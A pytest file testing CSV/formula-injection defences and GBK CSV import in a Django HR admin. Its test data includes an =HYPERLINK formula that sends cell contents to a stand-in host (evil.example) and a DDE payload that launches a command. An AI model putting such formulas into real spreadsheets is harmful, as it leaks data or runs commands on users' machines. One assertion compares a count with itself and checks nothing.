"""Imports and exports carry no live formula, read Chinese Excel's GBK CSV and answer an empty file in words."""

import io

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.errors import error_codes
from core.spreadsheets import SafeCSV, SafeXLSX, neutralise
from org.models import Department

pytestmark = pytest.mark.django_db


def grant(user, *codenames):
    user.is_staff = True
    user.save()
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    return user


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://x.example/?"&C2,"点击")', '\'=HYPERLINK("http://x.example/?"&C2,"点击")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "-2+3"),
        ("+86 138 0000 0000", "+86 138 0000 0000"),
        ("\t=1", "'\t=1"),
        ("张伟强", "张伟强"),
        (42, 42),
    ],
)
def test_formula_like_cells_are_neutralised_and_phone_numbers_are_not(value, expected):
    assert neutralise(value) == expected


def test_an_admin_export_writes_a_formula_as_text(org, users, login):
    """An address saved as =HYPERLINK(…) comes out of the xlsx export as inert text, not a formula."""
    org.worker.address = '=HYPERLINK("http://evil.example/?"&D3,"详情")'
    org.worker.save(update_fields=["address"])
    hr = grant(users["hr"], "view_employee")
    fields = {f"employeeresource_{name}": "on" for name in ("number", "name", "address")}
    xlsx_index = [cls.__name__ for cls in (SafeCSV, SafeXLSX)].index("SafeXLSX")
    response = login(hr).post(
        reverse("admin:employees_employee_export"), {"format": str(xlsx_index), "resource": "0", **fields}
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert cells, "the address is exported"
    assert all(cell.data_type == "s" and str(cell.value).startswith("'") for cell in cells)


def test_a_gbk_csv_imports_with_its_chinese_names(org, users, login):
    """Chinese Excel saves CSV in GBK: the department names arrive intact."""
    hr = grant(users["hr"], "add_department", "change_department", "view_department")
    data = tablib.Dataset(headers=["code", "name", "parent", "head", "manager", "is_active", "sort_order"])
    data.append(("PRD-WD", "焊接二课", "PRD", "", "", "1", "1"))
    client = login(hr)
    upload = SimpleUploadedFile("d.csv", data.export("csv").encode("gbk"))
    response = client.post(
        reverse("admin:org_department_import"), {"format": "0", "resource": "0", "import_file": upload}
    )
    assert response.status_code == 200
    assert not response.context["result"].has_validation_errors()
    assert "焊接二课" in response.content.decode()


@pytest.mark.parametrize("name, content", [("d.csv", b""), ("d.xlsx", b""), ("d.xlsx", b"not a workbook")])
def test_an_empty_or_broken_file_is_answered_in_words(org, users, login, en, name, content):
    hr = grant(users["hr"], "add_department", "change_department", "view_department")
    fmt = "0" if name.endswith(".csv") else "1"
    response = login(hr).post(
        reverse("admin:org_department_import"),
        {"format": fmt, "resource": "0", "import_file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "encountered while trying to read file" not in body
    assert "empty" in body or "could not be read" in body
    assert Department.objects.count() == Department.objects.count()


def test_an_empty_csv_carries_a_code():
    with pytest.raises(Exception) as excinfo:
        SafeCSV().create_dataset(b"")
    assert "file_empty" in error_codes(excinfo.value)
